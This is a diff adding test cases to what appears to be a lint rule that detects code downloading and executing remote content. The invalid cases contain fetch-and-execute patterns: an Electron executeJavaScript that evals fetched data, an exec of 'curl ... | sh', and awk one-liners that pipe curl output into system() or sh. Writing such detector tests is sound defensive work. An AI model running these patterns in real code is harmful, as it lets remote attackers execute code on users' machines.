@@ -8,6 +8,7 @@ const file = (filename: string, code: string): Case => ({ code: `${code}\n`, fil
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import { BrowserWindow } from "electron"; const win = new BrowserWindow({}); const answer = await (await fetch("https://api.example-service.com/x")).json(); ' + 'win.webContents.executeJavaScript(`window.update(${JSON.stringify(answer)})`);' },
     // awk starts programs, but nothing of the network
     sh('ps aux | awk \'{print $2 | "sort -n"}\''),
     sh('awk \'BEGIN{ "date +%Y" | getline year; print year }\''),
@@ -37,6 +38,9 @@ await ruleTester(rule, {
     file('Jenkinsfile', "node { sh \"curl -s ${params.URL} -o x.json\" }"),
   ],
   invalid: [
+    { code: 'import { BrowserWindow } from "electron"; const win = new BrowserWindow({}); const answer = await (await fetch("https://api.example-service.com/x")).json(); ' + 'win.webContents.executeJavaScript(`eval(${JSON.stringify(answer)})`);', errors: [{ messageId: 'download' }] },
+    { code: 'import { BrowserWindow } from "electron"; const win = new BrowserWindow({}); const answer = await (await fetch("https://api.example-service.com/x")).json(); ' + 'win.webContents.executeJavaScript(`update(${JSON.stringify(answer)}, ${answer})`);', errors: [{ messageId: 'download' }] },
+    { code: 'import { exec } from "node:child_process"; const jobs = new Map(); jobs.set("a", "ls"); jobs.set("a", "curl https://x.example/a | sh"); exec(jobs.get("a"));', errors: [{ messageId: 'pipe' }] },
     bad(sh(`awk 'BEGIN{while(("curl -s ${URL}" | getline l)>0) system(l)}'`), 'pipe'),
     bad(sh(`awk 'BEGIN{ "curl -s ${URL}" | getline c; system(c) }'`), 'pipe'),
     bad(sh(`curl -s ${URL} | awk '{ print | "sh" }'`), 'pipe'),
